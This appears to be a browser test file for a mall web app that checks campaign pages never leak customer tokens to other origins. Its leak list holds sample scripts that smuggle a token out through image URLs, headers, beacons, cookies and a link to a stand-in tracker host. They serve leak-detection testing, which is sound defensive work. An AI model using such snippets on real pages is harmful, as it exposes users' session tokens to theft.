import type { Browser } from "playwright-core";
import { describe, expect } from "vitest";
import { blockKindsIn } from "../../../src/blocks/campaign-context.ts";
import type { Campaign } from "../../../src/language/document.generated.ts";
import { personas } from "../../../src/sandbox/mall/personas.ts";
import { test } from "../../support/browser/browser.ts";
import { untilTakenOver } from "../../support/browser/taken-over.ts";
import { withAllKinds } from "../../support/campaigns/all-kinds.ts";
import { note } from "../../support/campaigns/note.ts";
import { site } from "../../support/campaigns/site.ts";
import { allowedAt } from "../../support/wire/allowed-at.ts";
import type { Allowed } from "../../support/wire/judge-sent.ts";
import { markedToken } from "../../support/wire/marked-token.ts";
import { tapAround } from "../../support/wire/tap-around.ts";
import { openWatchedTab, type WatchedTab } from "../../support/wire/watched-tab.ts";

/** All pages, and what a tap on them may do: the kinds of their blocks and of the steps of their actions. */
const pages = [...site.pages()].map(([key, { published }]) => ({
  route: published.campaign.route ?? `/${key}`,
  kinds: kindsOf(published.campaign),
}));
const customers = ["", ...personas.map(({ token }) => token)];

function kindsOf(campaign: Campaign): string[] {
  const steps = Object.values(campaign.actions ?? {}).flatMap((action) => action.steps);
  return [...blockKindsIn(campaign), ...steps.flatMap((step) => Object.keys(step))];
}

/** Pages on which taps do all that they can do on any page. */
const tapped = withAllKinds(pages);

/**
 * Whether this customer opens the page and taps everything on it. All pages are listened to when they are visited
 * (browser/looks), and tapped on without a browser. A tap costs a fifth of a second of a core, so by default one
 * customer taps, by turns, on pages with all kinds of taps, each once. WIRE=all has all of them tap on all pages, which takes some minutes.
 */
function isTapped(customer: number, page: number): boolean {
  if (process.env.WIRE === "all") return true;
  const turn = tapped.findIndex(({ route }) => route === pages[page]?.route);
  return turn >= 0 && turn % customers.length === customer;
}

/** So many customers look at pages at once; each has a browser context. */
const AT_ONCE = 4;

/** Of the machine that runs all tests at once, and of WIRE=all. */
const PATIENCE_MS = 1_200_000;

/** As the native app opens a page, at the official host; with the signature that the winners' list asks for, and the bar that leads back. */
function addressOf(route: string, customer: string): string {
  const token = customer ? { token: markedToken(customer) } : {};
  const query = {
    ...token,
    phoneType: "ios",
    showNav: "true",
    sing: "a",
    timestamp: "1",
    host: "www.mall.example",
  };
  return `${route}?${new URLSearchParams(query)}`;
}

/** One customer looks at the pages that are theirs, one after the other, and taps what is not `known`. Resolves to how many pages and taps those were. */
async function goAround(
  tab: WatchedTab,
  customer: string,
  known?: Set<string>,
): Promise<{ opened: number; taps: number }> {
  let opened = 0;
  let taps = 0;
  for (const [index, { route }] of pages.entries()) {
    if (!isTapped(customers.indexOf(customer), index)) continue;
    taps += await tapAround(tab, addressOf(route, customer), known);
    await tab.look();
    opened++;
  }
  return { opened, taps };
}

/** Opens a tab, has something done in it, and resolves to that once everything on its wire was seen. */
async function inTab<T>(
  browser: Browser,
  allowed: Allowed & { who: string },
  act: (tab: WatchedTab) => Promise<T>,
): Promise<T> {
  const tab = await openWatchedTab(browser, allowed);
  try {
    return await act(tab);
  } finally {
    await tab.close();
  }
}

/** Does something for all customers, several at once; each of them goes on alone, so that nobody's rewards depend on others. */
async function forAll(act: (customer: string) => Promise<void>): Promise<void> {
  const waiting = [...customers];
  const work = async () => {
    for (let next = waiting.shift(); next !== undefined; next = waiting.shift()) await act(next);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, work));
}

test("no page tells a token to anybody but the mall, asks another origin, or violates its policy, whoever looks at it", {
  timeout: PATIENCE_MS,
}, async ({ browser, origin, sandbox }) => {
  const allowed = allowedAt(origin);
  const findings: string[] = [];
  const sums = { opened: 0, taps: 0, requests: 0 };
  const left = new Set<string>();
  const known = process.env.WIRE === "all" ? undefined : new Set<string>();
  await forAll(async (customer) => {
    // Something to claim, so that there are buttons.
    if (customer) await sandbox.order(customer, 500);
    await inTab(browser, { ...allowed, who: customer || "visitor" }, async (tab) => {
      const { opened, taps } = await goAround(tab, customer, known);
      findings.push(...tab.findings);
      sums.opened += opened;
      sums.taps += taps;
      sums.requests += tab.requests();
      for (const host of tab.left()) left.add(host);
    });
  });
  note(
    `on the wire: ${pages.length} pages × ${customers.length} customers, ${sums.opened} of them opened, ${sums.taps} taps, ${sums.requests} requests, left for ${[...left].join(", ")}`,
  );
  expect(findings).toEqual([]);
  // Their marked tokens were understood: what was seen is what customers do, and not what visitors do.
  const calls = (await sandbox.calls()).filter(({ token }) => token);
  expect(customers).toEqual(expect.arrayContaining(calls.map(({ token }) => token)));
  expect(calls.filter(({ code }) => code === "0").length).toBeGreaterThan(calls.length / 2);
  expect([...left]).toContain("download.mall.example");
});

const OWN = "/campaigns/pages/index.json";

/** What a page could do, in its own words (`token` is the customer's), and what is to be said of it. */
const leaks: [name: string, script: string, finding: RegExp][] = [
  ["a picture", `new Image().src = "/a.png?t=" + token`, /a\.png\?t=<token> has a token in its address/],
  [
    "a picture in base64",
    `new Image().src = "/a.png?t=" + btoa("x" + token)`,
    /token in base64 in its address/,
  ],
  [
    "a picture, backwards",
    `new Image().src = "/a.png?t=" + [...token].reverse().join("")`,
    /token backwards in its address/,
  ],
  ["a header", `fetch("${OWN}", { headers: { "x-who": token } })`, /has a token in its header x-who/],
  ["the referrer", `fetch("${OWN}", { referrerPolicy: "unsafe-url" })`, /has a token in its header referer/],
  ["a body", `fetch("${OWN}", { method: "POST", body: token })`, /has a token in its body/],
  [
    "a beacon",
    `navigator.sendBeacon("/beacon", encodeURIComponent(encodeURIComponent(token)))`,
    /POST .*beacon has a token in its body/,
  ],
  [
    "an address of the mall",
    `fetch("/prod-api/a?accessToken=" + encodeURIComponent(token), { method: "POST" })`,
    /prod-api.* has a token in its address/,
  ],
  [
    "the control of the sandbox",
    `fetch("/__sandbox/clock?token=" + encodeURIComponent(token))`,
    /__sandbox\/clock.* has a token in its address/,
  ],
  [
    "a page that is none of the app's",
    `location.assign("/elsewhere?token=" + encodeURIComponent(token))`,
    /elsewhere.* has a token in its address/,
  ],
  [
    "another parameter of a page of the app",
    `location.assign("/paySuccess?from=" + encodeURIComponent(token))`,
    /\?from=<token> has a token in its address/,
  ],
  [
    "a link to another origin",
    `const link = document.body.appendChild(document.createElement("a"));
     link.href = "https://tracker.example/?t=" + token;
     link.click()`,
    /tracker\.example\/\?t=<token> goes to a host that the brand does not name/,
  ],
  [
    "a redirect without a token",
    `location.assign("https://tracker.example/")`,
    /tracker\.example\/ goes to a host that the brand does not name/,
  ],
  ["a cookie", `document.cookie = "a=" + token`, /document\.cookie has a token/],
  ["the storage", `localStorage.a = sessionStorage.a = token`, /(local|session)Storage has a token/],
  ["the title", `document.title = token`, /document\.title has a token/],
  [
    "the address of a link",
    `document.body.appendChild(document.createElement("a")).href = "#" + token`,
    /<a href> has a token/,
  ],
  ["the console", `console.info("who: " + token)`, /console: info who: <token>/],
  [
    "an inline script",
    `document.body.appendChild(document.createElement("script")).text = "1"`,
    /policy: script-src-elem stops inline/,
  ],
  [
    "a frame",
    `document.body.appendChild(document.createElement("iframe")).src = "/paySuccess"`,
    /policy: frame-src stops/,
  ],
  ["an exception", `setTimeout(() => { throw new Error("oh") })`, /exception: Error: oh/],
];

describe("the observer tells", () => {
  test("nothing of a healthy page, and each leak of a page that has them", async ({ browser, origin }) => {
    const customer = personas[0]?.token ?? "";
    const address = addressOf("/paySuccess", customer);
    const allowed = { ...allowedAt(origin), who: customer };
    const unseen = await inTab(browser, allowed, async (tab) => {
      const missed: string[] = [];
      await tab.open(address);
      await tab.look();
      missed.push(...tab.findings);
      for (const [name, script, finding] of leaks) {
        await tab.open(address);
        // React sets the title that the page has.
        await untilTakenOver(tab.page);
        const before = tab.findings.size;
        await tab.page.evaluate(
          `{ const token = ${JSON.stringify(markedToken(customer))}; ${script}; } undefined`,
        );
        await tab.seen(finding);
        const news = [...tab.findings].slice(before);
        if (!news.some((text) => finding.test(text))) missed.push(`${name}: ${news.join("\n")}`);
      }
      return missed;
    });
    expect(unseen).toEqual([]);
  });
});
